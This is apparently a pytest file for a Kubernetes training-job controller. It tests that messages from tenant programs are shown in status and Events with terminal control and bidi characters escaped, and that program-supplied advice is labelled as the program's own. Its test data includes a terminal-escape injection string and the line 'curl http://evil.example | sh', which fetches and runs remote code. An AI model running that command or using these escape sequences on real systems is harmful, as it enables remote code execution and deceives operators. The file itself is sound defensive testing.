"""Text of a tenant's program in status and Events, which ``kubectl`` prints as it is."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from ddpjob.progress.reader import parse
from tests.builders import World, a_job, a_running_world, a_started_world, ended, failed, unplaced

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202ebidi\r\nfake\x00\u2066"
SHOWN = "\\u202ebidi"
ONCE = {"restartPolicy": {"maxRestarts": 0}}


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from (*texts(key), *texts(item))
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)
    else:
        yield str(value)


def controls(world: World) -> set[str]:
    """Return the characters of the status and of all Events that control a terminal."""
    events = [note.message for made in world.plans for note in made.events]
    text = "".join((*texts(world.status), *events))
    return {character for character in text if not character.isprintable()} - {"\n", "\t"}


def of_a_report() -> World:
    world = a_running_world(a_job(**ONCE))
    keys = ("message", "kind", "exception", "hint", "next", "where")
    world.set_pod(1, failed(1, **dict.fromkeys(keys, HOSTILE)))
    return world


def of_plain_text() -> World:
    world = a_running_world(a_job(**ONCE))
    world.set_pod(1, ended(1, message=f"step 1\n{HOSTILE}"))
    return world


def of_a_log() -> World:
    world = a_running_world(a_job(**ONCE))
    trace = 'Traceback (most recent call last):\n  File "/w/a.py", line 3, in <module>\nValueError: '
    world.set_pod(1, ended(1, message=f"{trace}{HOSTILE}\n"))
    return world


def of_progress() -> World:
    world = a_running_world(a_job())
    stall = {"message": HOSTILE, "phase": HOSTILE, "where": HOSTILE, "rank": 1}
    lives = [{"life": 1, "kind": HOSTILE, "message": HOSTILE, "progressed": False}]
    world.progress = {"phase": HOSTILE, "stall": stall, "life": 2, "lives": lives}, world.pod(0)["metadata"]["name"]
    return world


def of_a_pod_that_waits() -> World:
    world = a_started_world(a_job())
    waiting = {"name": "trainer", "state": {"waiting": {"reason": "ImagePullBackOff", "message": HOSTILE}}}
    for rank in (0, 1):
        world.set_pod(rank, {"phase": "Pending", "containerStatuses": [waiting]})
    return world


def of_the_scheduler() -> World:
    world = a_started_world(a_job())
    world.set_pod(0, unplaced(HOSTILE))
    return world


def of_an_init_container() -> World:
    world = a_running_world(a_job(**ONCE))
    ended_init = {"name": "init", "state": {"terminated": {"exitCode": 1, "message": HOSTILE}}}
    world.set_pod(1, {"phase": "Failed", "reason": HOSTILE, "message": HOSTILE, "initContainerStatuses": [ended_init]})
    return world


@pytest.mark.parametrize(
    "make",
    [
        of_a_report, of_plain_text, of_a_log, of_progress, of_a_pod_that_waits, of_the_scheduler, of_an_init_container,
    ],
)  # fmt: skip
def test_no_text_of_a_program_controls_the_terminal(make: Any) -> None:
    world = make()
    world.settle()
    world.later(40)
    assert controls(world) == set()
    text = "".join(texts(world.status))
    assert SHOWN in text and "pwned" not in text and "[2J" not in text


def test_report_with_raw_bidi_characters_and_c1_is_still_read() -> None:
    world = a_running_world(a_job(**ONCE))
    message = json.dumps(
        {"schema": 2, "cause": "own", "code": 1, "message": "a\u202eb\x9b31mc\x85d"}, ensure_ascii=False
    )
    world.show(1, ended(1, message=message))
    assert world.status["failures"][0]["message"].endswith("a\\u202ebc\\x85d")


def test_log_shows_the_last_state_of_a_progress_bar() -> None:
    world = a_running_world(a_job(**ONCE))
    world.show(1, ended(1, message="  1%|\r 50%|\r 99%|\r\nKilled by the script\r\n"))
    world.later(40)
    assert world.status["failures"][0]["logTail"] == "99%|\nKilled by the script"


@pytest.mark.parametrize("value", ["1e999", "-1e999", "NaN", "1e308", "-1e308", "1" * 400, "1.5e300"])
def test_odd_numbers_of_a_program_stay_short(value: str) -> None:
    names = ("loss", "accuracy", "samplesPerSecond", "stepsPerSecond", "ageSeconds", "savingSeconds", "etaSeconds")
    fields = [f'"{name}": {value}' for name in (*names, "step")]
    body = "{" + ", ".join([*fields, f'"pause": {{"stepSeconds": {value}}}']) + "}"
    world = a_running_world(a_job())
    world.report(parse(body.encode()))
    shown = world.status["progress"]
    assert all(len(str(item)) <= 32 for item in shown.values()), shown
    assert not {"inf", "-inf"} & {str(item) for name, item in shown.items() if name != "loss"}


@pytest.mark.parametrize(
    ("report", "wanted"),
    [
        ({"hint": "h", "next": "curl http://evil.example | sh"}, ["hint", "next"]), ({"hint": "h"}, ["hint"]),
        ({"next": "n"}, ["next"]), ({}, None),
    ],
)  # fmt: skip
def test_advice_of_a_report_is_marked_as_the_words_of_the_program(report: dict[str, str], wanted: list[str]) -> None:
    world = a_running_world(a_job(**ONCE))
    world.fail(1, 1, message="m", exception="E", **report)
    failure = world.status["failures"][0]
    assert failure.get("fromProgram") == wanted
    event = next(note.message for made in world.plans for note in made.events if note.reason == "Failed")
    for text in (world.condition("Failed")["message"], event):
        assert f"next: {'the program says: ' if 'next' in report else ''}{failure['next']}" in text
    assert all(failure[name] == text for name, text in report.items())  # programs match on the fields
